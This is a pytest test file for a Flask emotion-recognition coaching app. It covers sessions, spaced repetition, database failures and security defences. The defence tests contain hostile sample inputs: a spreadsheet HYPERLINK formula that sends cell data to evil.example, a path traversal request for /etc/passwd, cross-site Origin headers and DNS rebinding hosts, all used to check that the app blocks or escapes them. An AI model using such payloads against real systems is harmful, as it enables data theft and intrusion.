"""mmempathy coach through Flask's test client: sessions, feedback, double submits, spaced repetition, DB errors,
and the app's defences (foreign Host names, cross-site posts, large bodies, bad numbers, spreadsheet formulas)."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import threading

import pytest

pytest.importorskip("flask")

from mmempathy.coach import Coach, Database, DatabaseError, Item, Library, build_library, create_app, guess_strategy
from mmempathy.output import EmotionResult


def fake_reader(item: Item) -> EmotionResult:
    """The model is not the point here: a reading whose words say joy and whose voice says anger."""
    if item.id == "broken":
        raise RuntimeError("decoder exploded")
    probs = {k: 0.02 for k in ("anger", "disgust", "fear", "joy", "neutral", "sadness", "surprise")}
    probs[item.truth] = 0.88
    return EmotionResult(
        probs, {"text": dict(probs), "audio": dict(probs)}, {"text": 0.7, "audio": 0.3}, ["text", "audio"]
    )


@pytest.fixture
def coach(tmp_path) -> Coach:
    lib = build_library()  # the demo clip's six segments
    lib.add(Item(id="meld:x", kind="text", truth="sadness", text="Ross: I guess this is over.", context=["Rachel: hi"]))
    return Coach(Database(tmp_path / "coach.db"), lib, fake_reader)


@pytest.fixture
def client(coach):
    return create_app(coach).test_client()


def start(client, name="Ana", size=3, kinds=()):
    r = client.post("/people", data={"name": name})
    assert r.status_code == 303
    pid = int(r.headers["Location"].rstrip("/").split("/")[-1])
    r = client.post(f"/p/{pid}/sessions", data={"size": size, "kind": list(kinds)})
    assert r.status_code == 303
    sid = int(r.headers["Location"].split("/")[-2])
    return pid, sid


def test_demo_library_has_six_labelled_segments():
    lib = build_library()
    assert [i.truth for i in lib.items.values()] == ["anger", "joy", "sadness", "surprise", "neutral", "fear"]
    assert all(i.kind == "video" and i.end - i.start == 3.0 for i in lib.items.values())


def test_answer_shows_truth_readings_weights_and_response_comparison(client, coach):
    pid, sid = start(client)
    page = client.get(f"/s/{sid}/0").get_data(as_text=True)
    assert 'name="emotion"' in page and "Item 1 of 3" in page
    item = coach.library.items[coach.session(sid)["items"][0]]
    r = client.post(f"/s/{sid}/0/answer", data={"emotion": item.truth, "intensity": 3}, follow_redirects=True)
    page = r.get_data(as_text=True)
    assert "Right:" in page and f'id="truth">{item.truth}' in page
    assert "words" in page and "voice" in page and "0.70" in page  # per-channel rows and the gate weight
    r = client.post(f"/s/{sid}/0/response", data={"strategy": "Question"}, follow_redirects=True)
    page = r.get_data(as_text=True)
    ans = coach.session(sid)["answers"][0]
    assert ans["response_strategy"] == "Question" and ans["model_strategy"] in page
    assert ans["strategy_match"] == int(ans["model_strategy"] == "Question")
    assert "Why:" in page


def test_written_response_is_classified_and_feeling_claims_are_flagged(client, coach):
    pid, sid = start(client)
    item = coach.library.items[coach.session(sid)["items"][0]]
    client.post(f"/s/{sid}/0/answer", data={"emotion": item.truth, "intensity": 2})
    client.post(f"/s/{sid}/0/response", data={"text": "You are angry. Maybe try to breathe?"})
    ans = coach.session(sid)["answers"][0]
    assert ans["response_strategy"] == "Providing Suggestions"
    assert 'id="wording-note"' in client.get(f"/s/{sid}/0").get_data(as_text=True)
    assert guess_strategy("How was your day?") == "Question"
    assert guess_strategy("It seems this comes across as hard") == "Reflection of feelings"


def test_concurrent_double_submit_is_recorded_once(client, coach):
    pid, sid = start(client)
    barrier = threading.Barrier(4)
    codes = []

    def submit(emotion):
        barrier.wait()
        codes.append(client.post(f"/s/{sid}/1/answer", data={"emotion": emotion, "intensity": 2}).status_code)

    threads = [threading.Thread(target=submit, args=(e,)) for e in ("joy", "joy", "anger", "joy")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert codes == [303] * 4
    with sqlite3.connect(coach.db.path) as db:
        assert (
            db.execute("SELECT COUNT(*) FROM answers WHERE session_id = ? AND position = 1", (sid,)).fetchone()[0] == 1
        )


def test_progress_confusion_export_and_plot(client, coach):
    pid, sid = start(client, size=6)
    items = coach.session(sid)["items"]
    for pos, item_id in enumerate(items):
        truth = coach.library.items[item_id].truth
        client.post(f"/s/{sid}/{pos}/answer", data={"emotion": truth if pos % 2 == 0 else "neutral", "intensity": 2})
    prog = client.get(f"/api/progress/{pid}").get_json()
    assert prog["answered"] == 6
    wrong = [coach.library.items[i].truth for p, i in enumerate(items) if p % 2 == 1]
    expect = sum(t == "neutral" for t in wrong) + 3
    assert prog["accuracy"] == pytest.approx(expect / 6)
    assert sum(sum(row.values()) for row in prog["confusion"].values()) == 6
    assert sum(row["neutral"] for row in prog["confusion"].values()) >= 3
    png = client.get(f"/p/{pid}/progress.png")
    assert png.status_code == 200 and png.data[:8] == b"\x89PNG\r\n\x1a\n"
    assert 'id="confusion"' in client.get(f"/p/{pid}/progress").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(client.get("/export.csv").get_data(as_text=True))))
    assert len(rows) == 6 and {r["person"] for r in rows} == {"Ana"}
    assert all(r["item_id"] and r["answered"] and r["truth"] for r in rows)  # item, person and time kept


def test_missed_items_come_back_in_the_next_session(client, coach):
    pid, sid = start(client, size=3)
    items = coach.session(sid)["items"]
    truth = coach.library.items[items[0]].truth
    client.post(f"/s/{sid}/0/answer", data={"emotion": "disgust" if truth != "disgust" else "joy", "intensity": 1})
    for pos in (1, 2):
        client.post(f"/s/{sid}/{pos}/answer", data={"emotion": coach.library.items[items[pos]].truth, "intensity": 2})
    for _ in range(3):
        nxt = client.post(f"/p/{pid}/sessions", data={"size": 3})
        new = coach.session(int(nxt.headers["Location"].split("/")[-2]))["items"]
        assert items[0] in new  # missed: comes back every session until answered right
        assert not ({items[1], items[2]} <= set(new))  # unseen items take the free places first


def test_bad_answers_and_unknown_pages(client):
    pid, sid = start(client)
    assert client.post(f"/s/{sid}/0/answer", data={"emotion": "bored"}).status_code == 400
    assert client.post(f"/s/{sid}/9/answer", data={"emotion": "joy"}).status_code == 400
    assert client.post(f"/s/{sid}/0/response", data={"strategy": "Question"}).status_code == 400  # not answered yet
    assert client.get("/s/999/0").status_code == 404
    assert client.get("/media/..%2F..%2Fetc%2Fpasswd").status_code == 404
    assert client.get("/media/demo:1").status_code == 200
    assert client.post("/people", data={"name": "   "}).status_code == 400


def test_unreadable_clip_is_skipped_with_a_visible_note(tmp_path):
    clips = tmp_path / "clips"
    (clips / "anger").mkdir(parents=True)
    (clips / "anger" / "broken.mp4").write_bytes(b"not a video at all")
    (clips / "bored").mkdir()
    (clips / "bored" / "x.wav").write_bytes(b"RIFF")
    lib = build_library(clips)
    assert len(lib.items) == 6  # only the demo segments
    assert any("broken.mp4" in n and "unreadable" in n for n in lib.notes)
    assert any("x.wav" in n and "unknown emotion" in n for n in lib.notes)
    app = create_app(Coach(Database(tmp_path / "c.db"), lib, fake_reader))
    assert "skipped clip broken.mp4" in app.test_client().get("/").get_data(as_text=True)


def test_csv_of_clips_and_a_reader_failure_become_notes(tmp_path):
    import shutil

    from mmempathy.coach.items import DEMO_DIR

    shutil.copy(DEMO_DIR / "demo.mp4", tmp_path / "mine.mp4")
    (tmp_path / "clips.csv").write_text("path,emotion,text\nmine.mp4,happy,hello\nmissing.mp4,sad,\n")
    lib = build_library(tmp_path / "clips.csv", demo=False)
    assert [(i.truth, i.text) for i in lib.items.values()] == [("joy", "hello")]
    assert any("missing.mp4" in n for n in lib.notes)
    lib = Library()
    lib.add(Item(id="broken", kind="text", truth="joy", text="x"))
    coach = Coach(Database(tmp_path / "c.db"), lib, fake_reader)
    client = create_app(coach).test_client()
    pid, sid = start(client, size=1)
    page = client.post(f"/s/{sid}/0/answer", data={"emotion": "joy"}, follow_redirects=True).get_data(as_text=True)
    assert "could not read this item" in page and "Right:" in page


def test_corrupt_database_is_refused_or_recreated(tmp_path):
    bad = tmp_path / "coach.db"
    bad.write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(DatabaseError, match="not a readable SQLite database.*--reset-db"):
        Database(bad)
    db = Database(bad, reset=True)
    assert db.moved_aside is not None and db.moved_aside.read_bytes().startswith(b"this is not")
    with db.connect() as conn:
        assert conn.execute("SELECT value FROM meta WHERE key='schema'").fetchone()[0] == "1"
    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE t (x)")
    with pytest.raises(DatabaseError, match="not a coach database"):
        Database(other)
    missing = tmp_path / "sub" / "new.db"
    Database(missing)
    assert missing.is_file()


def test_cli_refuses_a_corrupt_database_and_binds_localhost_by_default(tmp_path, capsys):
    from mmempathy.cli import build_parser, main

    args = build_parser().parse_args(["coach"])
    assert args.host == "127.0.0.1" and args.port == 8000
    bad = tmp_path / "x.db"
    bad.write_bytes(b"garbage" * 50)
    assert main(["coach", "--db", str(bad)]) == 2
    assert "not a readable SQLite database" in capsys.readouterr().err


# --- the coach as a web app (issue 25 part 3) and as a command (issue 26) ---------------------------------


def cli_error(capsys) -> str:
    """The one line a refused ``mmempathy coach`` prints (and nothing else on standard error)."""
    err = capsys.readouterr().err
    assert err.startswith("mmempathy: error:") and err.count("\n") == 1, err
    return err


def test_other_host_names_get_nothing(client, coach):
    """DNS rebinding: a page whose own name now points at 127.0.0.1 still sends its own name as Host."""
    start(client, name="Ana")
    for url in ("http://localhost/", "http://127.0.0.1:8000/"):
        assert client.get("/export.csv", base_url=url).status_code == 200
    r = client.get("/export.csv", base_url="http://rebind.example:8000/")
    assert r.status_code == 400 and "Ana" not in r.get_data(as_text=True)
    assert "rebind.example" in r.get_data(as_text=True)  # the page says which name was refused
    assert client.get("/", base_url="http://rebind.example/").status_code == 400
    assert client.post("/people", data={"name": "Eve"}, base_url="http://rebind.example/").status_code == 400
    assert [p["name"] for p in coach.people()] == ["Ana"]


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Origin": "http://localhost:9"},
     {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}],
)  # fmt: skip
def test_cross_site_posts_are_refused(client, coach, headers):
    r = client.post("/people", data={"name": "Mallory"}, headers=headers)
    assert r.status_code == 403 and "another site" in r.get_data(as_text=True)
    assert coach.people() == []


def test_same_site_posts_and_scripts_pass(client, coach):
    for headers in ({"Origin": "http://localhost"}, {"Sec-Fetch-Site": "same-origin"}, {}):
        assert client.post("/people", data={"name": "Ana"}, headers=headers).status_code == 303
    assert [p["name"] for p in coach.people()] == ["Ana"]


def test_large_bodies_are_refused_before_they_are_read(client, coach):
    from mmempathy.coach.app import MAX_BODY

    pid, sid = start(client)
    r = client.post("/people", data={"name": "x" * (MAX_BODY + 1)})
    assert r.status_code == 413 and "too large" in r.get_data(as_text=True)
    r = client.post(f"/api/sessions/{sid}/0/answer", data=b"{" + b" " * MAX_BODY + b"}")
    assert r.status_code == 413 and "too large" in r.get_json()["error"]
    assert [p["name"] for p in coach.people()] == ["Ana"]


@pytest.mark.parametrize(
    "method, url, body, status, needle",
    [
        ("get", "/p/99999999999999999999999", None, 404, ""),
        ("get", "/p/9223372036854775808/progress", None, 404, ""),
        ("get", "/s/1/" + "9" * 5000, None, 404, ""),
        ("get", "/api/progress/-1", None, 404, ""),
        ("post", "/p/{pid}/sessions", {"size": "abc"}, 400, "size must be a whole number"),
        ("post", "/p/{pid}/sessions", {"size": "9" * 5000}, 400, "size must be a whole number"),
        ("post", "/s/{sid}/0/answer", {"emotion": "joy", "intensity": "two"}, 400, "intensity must be a whole number"),
        ("post", "/s/{sid}/0/answer", {"emotion": "joy", "intensity": "99999"}, 400, "intensity must be 1"),
        ("post", "/api/sessions/{sid}/0/answer", b"not json", 400, "must be a JSON object"),
        ("post", "/api/sessions/{sid}/0/answer", b"[1, 2]", 400, "must be a JSON object"),
        ("post", "/api/sessions/{sid}/0/answer", b'{"emotion": "joy", "intensity": 1e999}', 400, "whole number"),
        ("post", "/api/sessions/{sid}/0/answer", b'{"emotion": "joy", "intensity": true}', 400, "whole number"),
    ],
)
def test_bad_ids_numbers_and_bodies_are_4xx_not_500(client, method, url, body, status, needle):
    pid, sid = start(client)
    kwargs = {"data": body} if body is not None else {}
    r = getattr(client, method)(url.format(pid=pid, sid=sid), **kwargs)
    assert r.status_code == status, r.get_data(as_text=True)[-300:]
    text = r.get_json()["error"] if url.startswith("/api/") else r.get_data(as_text=True)
    assert needle in text


def test_export_is_safe_to_open_in_a_spreadsheet(client, coach):
    name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    pid, sid = start(client, name=name)
    item = coach.library.items[coach.session(sid)["items"][0]]
    client.post(f"/s/{sid}/0/answer", data={"emotion": item.truth, "intensity": 2})
    client.post(f"/s/{sid}/0/response", data={"text": "@SUM(1+1) sounds hard"})
    (row,) = csv.DictReader(io.StringIO(client.get("/export.csv").get_data(as_text=True)))
    assert row["person"] == "'" + name and row["response_text"] == "'@SUM(1+1) sounds hard"
    assert row["truth"] == item.truth and row["intensity"] == "2"  # plain cells are unchanged
    assert coach.name_of(pid) == name  # escaped in the export only, not in the database


def test_database_failing_while_serving_is_a_503_page(client, coach):
    pid, sid = start(client)
    coach.db.path.unlink()
    coach.db.path.mkdir()  # the file is gone and SQLite cannot open the path any more
    r = client.post(f"/s/{sid}/0/answer", data={"emotion": "joy", "intensity": 2})
    assert r.status_code == 503 and "cannot be used right now" in r.get_data(as_text=True)
    assert client.get(f"/api/progress/{pid}").get_json()["error"].startswith("the coach database")


def test_unusable_database_paths_are_one_line_errors(tmp_path, capsys, monkeypatch, no_model):
    from mmempathy.cli import main

    assert main(["coach", "--db", os.devnull]) == 2
    assert "not a regular file" in cli_error(capsys)
    assert main(["coach", "--db", str(tmp_path)]) == 2
    assert "is a directory" in cli_error(capsys)
    read_only, folder = tmp_path / "ro.db", tmp_path / "ro"
    Database(read_only)
    read_only.chmod(0o444)
    folder.mkdir(mode=0o555)
    if os.geteuid() == 0:  # root writes through permissions: make os.access answer as it does for anyone else
        real_access = os.access
        monkeypatch.setattr(os, "access", lambda p, mode: not mode & os.W_OK and real_access(p, mode))
    assert main(["coach", "--db", str(read_only)]) == 2
    assert "read-only" in cli_error(capsys)
    assert main(["coach", "--db", str(folder / "new.db")]) == 2
    assert "the folder" in cli_error(capsys) and not (folder / "new.db").exists()


@pytest.mark.parametrize("port", ["99999", "-1", "65536"])
def test_port_out_of_range_is_refused_before_anything_starts(tmp_path, capsys, no_model, port):
    from mmempathy.cli import main

    assert main(["coach", "--db", str(tmp_path / "c.db"), "--port", port]) == 2
    assert "1 to 65535" in cli_error(capsys)
    assert not (tmp_path / "c.db").exists()


def test_missing_flask_names_the_extra_before_the_model_loads(tmp_path, capsys, monkeypatch, no_model):
    import sys

    from mmempathy.cli import main

    monkeypatch.setitem(sys.modules, "flask", None)  # import flask now fails as it does without the extra
    assert main(["coach", "--db", str(tmp_path / "c.db"), "--clips", str(tmp_path)]) == 2
    assert "pip install 'mmempathy[coach]'" in cli_error(capsys)
    assert not (tmp_path / "c.db").exists()


def test_failed_starts_leave_no_database_behind(tmp_path, capsys, no_model):
    import socket

    from mmempathy.cli import main

    db, nothing = tmp_path / "coach.db", ["--no-demo", "--data-dir", str(tmp_path / "no-data")]
    assert main(["coach", "--db", str(db), *nothing]) == 2
    assert "no practice items (data folder" in cli_error(capsys) and not db.exists()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        assert main(["coach", "--db", str(db), "--port", str(taken.getsockname()[1])]) == 2
    assert "Address already in use" in cli_error(capsys) and not db.exists()
    Database(db)  # a database that was there before a failed start stays
    assert main(["coach", "--db", str(db), *nothing]) == 2
    assert db.is_file()


def test_failed_model_load_removes_the_new_database(tmp_path, capsys):
    from mmempathy.cli import main

    db = tmp_path / "coach.db"
    assert main(["coach", "--db", str(db), "--port", "0", "--model", str(tmp_path / "no-such-model")]) == 2
    assert "no-such-model" in cli_error(capsys) and not db.exists()


def test_trusted_hosts_follow_the_bound_address():
    from mmempathy.coach.app import address, trusted_hosts

    assert trusted_hosts("127.0.0.1") == ["localhost", "127.0.0.1"]
    assert trusted_hosts("192.168.1.5", ["coach.lan"]) == ["localhost", "127.0.0.1", "192.168.1.5", "coach.lan"]
    assert trusted_hosts("0.0.0.0") is None  # every interface, no name given: reachable by anyone anyway
    assert trusted_hosts("0.0.0.0", ["coach.lan"]) == ["localhost", "127.0.0.1", "coach.lan"]
    assert address("0.0.0.0", 8000) == "http://127.0.0.1:8000/" and address("::1", 8) == "http://localhost:8/"
